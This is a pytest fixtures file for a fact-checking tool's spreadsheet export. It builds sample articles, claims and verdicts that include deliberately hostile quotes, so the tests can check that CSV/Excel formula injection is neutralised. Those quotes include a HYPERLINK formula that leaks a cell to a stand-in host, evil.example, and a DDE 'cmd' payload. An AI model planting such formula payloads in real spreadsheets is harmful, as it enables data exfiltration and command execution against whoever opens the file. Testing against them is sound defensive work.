"""Fixtures for the export tests: a small library with hostile quotes, linked claims and verdicts."""

from __future__ import annotations

import datetime as dt
import importlib.util
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from types import ModuleType

import pytest
from sqlalchemy import text

from workbench.model import Article, Claim, ClaimGroup, Source, Suggestion
from workbench.service import EvidenceInfo, Workbench
from workbench.service.library import content_hash

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1 555 0100 is the hotline",
    "-2 degrees was the low",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed start of a quote",
)


def load_synthetic() -> ModuleType:
    """The bulk library builder shared with benchmarks/bench_export.py."""
    spec = importlib.util.spec_from_file_location("export_synthetic", Path(__file__).with_name("synthetic.py"))
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="session")
def synthetic() -> ModuleType:
    """The module that bulk-builds large libraries (build_library)."""
    return load_synthetic()


def add_article(wb: Workbench, text: str, *, title: str, outlet: str | None, url: str | None,
                published: dt.date | None) -> int:
    """Insert an article straight through the ORM (independent of the import layer)."""
    with wb.db.write() as s:
        source = None
        if outlet:
            source = Source(name=outlet, homepage=f"https://{outlet.lower().replace(' ', '')}.example")
            s.add(source)
        article = Article(
            source=source, title=title, url=url, published=published, file_format="text", text=text,
            length=len(text), content_hash=content_hash(text),
        )
        s.add(article)
        s.flush()
        return article.id


def link(wb: Workbench, keep: int, moved: int, *, score: float = 0.92) -> None:
    """Put claim `moved` into claim `keep`'s group, recording the accepted suggestion (a Link)."""
    with wb.db.write() as s:
        a, b = s.get(Claim, keep), s.get(Claim, moved)
        assert a and b
        old = b.group
        b.group = a.group
        s.add(Suggestion(claim_id=a.id, article_id=b.article_id, start=b.start, end=b.end, text=b.quote,
                         score=score, method="fuzzy", state="accepted", target_claim_id=b.id))
        s.flush()
        s.delete(s.get(ClaimGroup, old.id))
        s.flush()
        if s.get_bind().dialect.name == "postgresql":
            # SQLite hands the id of a deleted last row out again; set the sequence back likewise, so the
            # sample's groups are numbered alike on both backends (the tests name groups by number).
            s.execute(text("SELECT setval('claim_groups_id_seq', (SELECT coalesce(max(id), 0) + 1 FROM claim_groups),"
                           " false)"))


@pytest.fixture
def new_article() -> Callable[..., int]:
    """add_article as a fixture: new_article(wb, text, title=..., outlet=..., url=..., published=...)."""
    def make(wb: Workbench, text: str, *, title: str = "An article", outlet: str | None = None,
             url: str | None = None, published: dt.date | None = None) -> int:
        return add_article(wb, text, title=title, outlet=outlet, url=url, published=published)
    return make


@dataclass
class Sample:
    wb: Workbench
    articles: list[int]
    linked_group: int  # two claims in two outlets, final verdict "false"
    draft_group: int  # verdict in draft, hostile rationale
    bare_group: int  # a claim without a verdict
    hostile_groups: list[int]  # one claim each, quoting HOSTILE[i]


TEXT_A = (
    "The minister said that unemployment fell by 40 percent last year, a claim economists dispute. "
    "Critics noted that the ferry timetable was unchanged. " + " ".join(HOSTILE) + " End of story."
)
TEXT_B = "Reports on Monday repeated that unemployment fell by 40 percent last year, citing the ministry. Ça va."
TEXT_C = "An unsourced post claimed the bridge will close in June. Nothing else was said."


@pytest.fixture
def sample(wb: Workbench) -> Sample:
    a = add_article(wb, TEXT_A, title="Minister on jobs", outlet="Daily Planet",
                    url="https://dailyplanet.example/jobs", published=dt.date(2022, 1, 18))
    b = add_article(wb, TEXT_B, title="Jobs figures repeated", outlet="Moscow Times",
                    url="https://themoscowtimes.example/2022/01/19/jobs", published=dt.date(2022, 1, 19))
    c = add_article(wb, TEXT_C, title="Bridge rumour", outlet=None, url=None, published=None)
    first = wb.add_claim(a, quote="unemployment fell by 40 percent last year")
    second = wb.add_claim(b, quote="unemployment fell by 40 percent last year")
    link(wb, first.id, second.id)
    ferry = wb.add_claim(a, quote="the ferry timetable was unchanged")
    bridge = wb.add_claim(c, quote="the bridge will close in June")
    hostile = [wb.add_claim(a, quote=q).group_id for q in HOSTILE]
    wb.set_verdict(first.group_id, rating="false", status="final", rationale="Official statistics show 4 percent.",
                   evidence=[EvidenceInfo(url="https://stats.example/unemployment")])
    wb.set_verdict(ferry.group_id, rating="mostly-true", status="draft", rationale="=1+1 is not a formula here")
    wb.set_verdict(hostile[0], rating="unproven", status="final", rationale="-- inert")
    return Sample(wb, [a, b, c], first.group_id, ferry.group_id, bridge.group_id, hostile)


def headers(sheet) -> list[str]:  # type: ignore[no-untyped-def]
    """The header row of an openpyxl worksheet."""
    return [c.value for c in next(sheet.iter_rows(min_row=1, max_row=1))]


def edit_verdicts(path: Path, changes: dict[int, dict[str, object]]) -> None:
    """Change cells of the Verdicts sheet by spreadsheet row and column header, as a reviewer would (openpyxl)."""
    from openpyxl import load_workbook

    book = load_workbook(path)
    sheet = book["Verdicts"]
    names = headers(sheet)
    for row, values in changes.items():
        for header, value in values.items():
            sheet.cell(row, names.index(header) + 1).value = value
    book.save(path)


@pytest.fixture
def export(sample: Sample, tmp_path: Path) -> Callable[..., Path]:
    """Export the sample library to tmp_path/name and return the path."""
    def run(name: str, **kwargs: object) -> Path:
        path = tmp_path / name
        report = sample.wb.export(path, **kwargs)  # type: ignore[arg-type]
        assert not report.cancelled and path.exists()
        return path
    return run
